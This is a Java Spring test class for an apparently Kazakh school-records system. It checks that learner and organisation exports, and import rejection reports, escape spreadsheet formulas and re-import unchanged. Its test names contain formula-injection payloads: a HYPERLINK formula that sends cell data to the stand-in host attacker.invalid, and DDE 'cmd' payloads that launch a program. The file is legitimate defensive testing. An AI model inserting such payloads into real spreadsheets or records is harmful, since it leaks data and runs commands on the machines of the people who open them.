package org.barshaga.attack;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import org.barshaga.kernel.Iin;
import org.barshaga.kernel.Sex;
import org.barshaga.support.BarshagaTest;
import org.barshaga.support.Demo;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.barshaga.support.Demo.as;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Formula injection: a value that a spreadsheet would run (it starts with {@code =},
 * {@code +}, {@code -}, {@code @}, a tab or a carriage return) comes out of every export
 * and report as text, and an export imported again gives back exactly what went in.
 */
@BarshagaTest
class FormulaCellAttackTests {

	static final String LEARNERS_HEADER = "iin,surname,given_name,patronymic,birth_date,sex,citizenship,language,disability,"
			+ "home_unit_code,school_code";

	static final String HYPERLINK = "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"Open\")";

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcClient jdbc;

	@Test
	void learnerNamesComeOutAsTextInCsvAndXlsxAndGoBackInUnchanged() throws Exception {
		String school = schoolOf(Demo.SCHOOL);
		String home = jdbc.sql("SELECT org_unit_code FROM organisation WHERE code = ?")
			.param(school)
			.query(String.class)
			.single();
		// the names as stored, and as a file gives them: a leading apostrophe before a
		// formula character is the file's way of saying "text", so a name that itself
		// starts with one is written with one more
		Map<String, List<String>> children = Map.of(iin(1, Sex.FEMALE), List.of(HYPERLINK, "+Әлия", "@Серікқызы"),
				iin(2, Sex.MALE), List.of("-Бек", "'=Асан", "''+Болат"), iin(3, Sex.FEMALE),
				List.of("=1+2", "-2+3+cmd|' /C calc'!A0", ""));
		Map<String, List<String>> cells = Map.of(iin(1, Sex.FEMALE), children.get(iin(1, Sex.FEMALE)), iin(2, Sex.MALE),
				List.of("-Бек", "''=Асан", "'''+Болат"), iin(3, Sex.FEMALE), children.get(iin(3, Sex.FEMALE)));
		StringBuilder file = new StringBuilder(LEARNERS_HEADER);
		cells.forEach((iin, names) -> file.append("\r\n")
			.append(String.join(",", iin, quoted(names.get(0)), quoted(names.get(1)), quoted(names.get(2)),
					Iin.birthDate(iin).toString(), Iin.sex(iin).name(), "KZ,KK,", home, school)));
		// a school coordinator gives out the school's learners; the administrator loads
		// them
		assertThat(upload(Demo.ADMIN, "learners", "learners.csv", file.toString().getBytes(StandardCharsets.UTF_8),
				"all-or-nothing"))
			.isEqualTo("COMPLETED");
		assertNamesAre(children);

		byte[] csv = download("/exchange/exports/learners.csv", Demo.SCHOOL);
		List<List<String>> rows = csvRows(csv);
		assertNoLiveFormula(rows);
		List<String> first = row(rows, iin(1, Sex.FEMALE));
		assertThat(first.subList(1, 4)).containsExactly("'" + HYPERLINK, "'+Әлия", "'@Серікқызы");
		assertThat(row(rows, iin(2, Sex.MALE)).subList(1, 4)).containsExactly("'-Бек", "''=Асан", "'''+Болат");

		byte[] xlsx = download("/exchange/exports/learners.xlsx", Demo.SCHOOL);
		List<List<String>> sheet = xlsxRows(xlsx);
		assertNoLiveFormula(sheet);
		assertThat(row(sheet, iin(1, Sex.FEMALE)).get(1)).isEqualTo("'" + HYPERLINK);

		// the school's file also holds the disability status of the children whose
		// guardians consented, which the administrator may not write: the administrator
		// loads back the lines of the children made here, byte for byte as exported
		assertThat(upload(Demo.ADMIN, "learners", "learners.csv", linesOf(csv, children.keySet()), "all-or-nothing"))
			.isEqualTo("COMPLETED");
		assertNamesAre(children);
		assertThat(download("/exchange/exports/learners.csv", Demo.SCHOOL)).as("the round trip is exact")
			.isEqualTo(csv);
	}

	@Test
	void organisationNamesComeOutAsTextAndGoBackInUnchanged() throws Exception {
		String code = "KZ-61-D08-FX1";
		String header = "code,type,name_kk,name_ru,name_en,unit_code,settlement,ownership,languages,status,closed_on,pupils";
		String file = header + "\r\n" + code + ",GENERAL_SCHOOL," + quoted("=1+2") + "," + quoted("@SUM(A1:A9)") + ","
				+ quoted("+School " + HYPERLINK) + ",KZ-61-D08,RURAL,STATE,KK,OPEN,,10";
		assertThat(upload(Demo.DISTRICT_SARYAGASH, "organisations", "organisations.csv",
				file.getBytes(StandardCharsets.UTF_8), "all-or-nothing"))
			.isEqualTo("COMPLETED");
		byte[] csv = download("/exchange/exports/organisations.csv", Demo.DISTRICT_SARYAGASH);
		List<List<String>> rows = csvRows(csv);
		assertNoLiveFormula(rows);
		assertThat(row(rows, code).subList(2, 5)).containsExactly("'=1+2", "'@SUM(A1:A9)", "'+School " + HYPERLINK);
		assertNoLiveFormula(xlsxRows(download("/exchange/exports/organisations.xlsx", Demo.DISTRICT_SARYAGASH)));

		assertThat(upload(Demo.DISTRICT_SARYAGASH, "organisations", "organisations.csv", csv, "all-or-nothing"))
			.isEqualTo("COMPLETED");
		assertThat(jdbc.sql("SELECT name_kk, name_ru, name_en FROM organisation WHERE code = ?")
			.param(code)
			.query((rs, n) -> List.of(rs.getString(1), rs.getString(2), rs.getString(3)))
			.single()).containsExactly("=1+2", "@SUM(A1:A9)", "+School " + HYPERLINK);
	}

	@Test
	void theRejectionReportShowsTheRejectedValueAsText() throws Exception {
		String iin = iin(4, Sex.MALE);
		String file = LEARNERS_HEADER + "\r\n" + iin + ",Асанов,Болат,," + quoted("=cmd|' /C calc'!A0")
				+ ",MALE,KZ,KK,NONE,KZ-61-D08,";
		MvcResult result = mvc
			.perform(multipart("/exchange/imports")
				.file(new MockMultipartFile("file", "learners.csv", "text/csv", file.getBytes(StandardCharsets.UTF_8)))
				.param("register", "learners")
				.param("mode", "valid-rows")
				.with(as(Demo.SCHOOL))
				.with(csrf()))
			.andExpect(status().is3xxRedirection())
			.andReturn();
		long run = Long.parseLong(result.getResponse().getRedirectedUrl().replaceAll(".*/", ""));
		waitFor(run);
		List<List<String>> report = csvRows(download("/exchange/runs/" + run + "/report.csv?lang=en", Demo.SCHOOL));
		assertNoLiveFormula(report);
		assertThat(report).anySatisfy(line -> assertThat(line).contains("'=cmd|' /C calc'!A0"));
	}

	private void assertNamesAre(Map<String, List<String>> children) {
		children.forEach((iin,
				names) -> assertThat(
						jdbc.sql("SELECT surname, given_name, COALESCE(patronymic, '') FROM learner WHERE iin = ?")
							.param(iin)
							.query((rs, n) -> List.of(rs.getString(1), rs.getString(2), rs.getString(3)))
							.single())
					.as(iin)
					.containsExactlyElementsOf(names));
	}

	/** No cell starts with a formula character, unless it is a plain number. */
	private static void assertNoLiveFormula(List<List<String>> rows) {
		assertThat(rows).isNotEmpty();
		for (List<String> row : rows) {
			for (String cell : row) {
				if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
					assertThat(cell).as("a live formula cell").matches("-[0-9]+(\\.[0-9]+)?");
				}
			}
		}
	}

	private static List<String> row(List<List<String>> rows, String firstCell) {
		return rows.stream().filter(r -> r.get(0).equals(firstCell)).findFirst().orElseThrow();
	}

	private static List<List<String>> csvRows(byte[] bytes) throws IOException {
		String text = new String(bytes, StandardCharsets.UTF_8);
		assertThat(text).startsWith("\uFEFF");
		List<List<String>> rows = new ArrayList<>();
		try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(text.substring(1))) {
			reader.forEach(record -> rows.add(record.getFields()));
		}
		return rows;
	}

	private static List<List<String>> xlsxRows(byte[] bytes) throws IOException {
		Path file = Files.createTempFile("formula", ".xlsx");
		try {
			Files.write(file, bytes);
			List<List<String>> rows = new ArrayList<>();
			try (ReadableWorkbook workbook = new ReadableWorkbook(file.toFile());
					var stream = workbook.getFirstSheet().openStream()) {
				for (Row row : (Iterable<Row>) stream::iterator) {
					List<String> cells = new ArrayList<>();
					for (int c = 0; c < row.getCellCount(); c++) {
						Cell cell = row.getCell(c);
						assertThat(cell == null || cell.getFormula() == null).as("no formula in the workbook").isTrue();
						cells.add(cell == null ? "" : cell.getText());
					}
					rows.add(cells);
				}
			}
			return rows;
		}
		finally {
			Files.deleteIfExists(file);
		}
	}

	private byte[] download(String url, String user) throws Exception {
		return mvc.perform(get(url).with(as(user)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsByteArray();
	}

	private String upload(String user, String register, String fileName, byte[] content, String mode) throws Exception {
		MvcResult result = mvc
			.perform(multipart("/exchange/imports").file(new MockMultipartFile("file", fileName, "text/csv", content))
				.param("register", register)
				.param("mode", mode)
				.with(as(user))
				.with(csrf()))
			.andExpect(status().is3xxRedirection())
			.andReturn();
		long run = Long.parseLong(result.getResponse().getRedirectedUrl().replaceAll(".*/", ""));
		return waitFor(run);
	}

	private String waitFor(long run) throws InterruptedException {
		for (int i = 0; i < 600; i++) {
			String status = jdbc.sql("SELECT status FROM import_run WHERE id = ?")
				.param(run)
				.query(String.class)
				.single();
			if (!status.equals("RUNNING")) {
				if (!status.equals("COMPLETED")) {
					return status + " "
							+ jdbc.sql("SELECT COALESCE(problem_key, '') FROM import_run WHERE id = ?")
								.param(run)
								.query(String.class)
								.single()
							+ " "
							+ jdbc.sql("SELECT reason_key FROM import_rejection WHERE run_id = ?")
								.param(run)
								.query(String.class)
								.list();
				}
				return status;
			}
			Thread.sleep(100);
		}
		throw new AssertionError("The import did not finish");
	}

	private String schoolOf(String user) {
		return jdbc
			.sql("SELECT o.code FROM app_user u JOIN organisation o ON o.id = u.scope_organisation_id"
					+ " WHERE u.username = ?")
			.param(user)
			.query(String.class)
			.single();
	}

	private static String iin(int n, Sex sex) {
		return Iin.of(LocalDate.of(2016, 2, 1).plusDays(n), sex, 7600 + n);
	}

	private static String quoted(String value) {
		return "\"" + value.replace("\"", "\"\"") + "\"";
	}

	/** The header and the lines of the given IINs, as the file has them. */
	private static byte[] linesOf(byte[] file, java.util.Set<String> iins) {
		String[] lines = new String(file, StandardCharsets.UTF_8).split("\r\n", -1);
		StringBuilder kept = new StringBuilder(lines[0]);
		for (int i = 1; i < lines.length; i++) {
			String line = lines[i];
			if (iins.stream().anyMatch(line::startsWith)) {
				kept.append("\r\n").append(line);
			}
		}
		return kept.append("\r\n").toString().getBytes(StandardCharsets.UTF_8);
	}

}
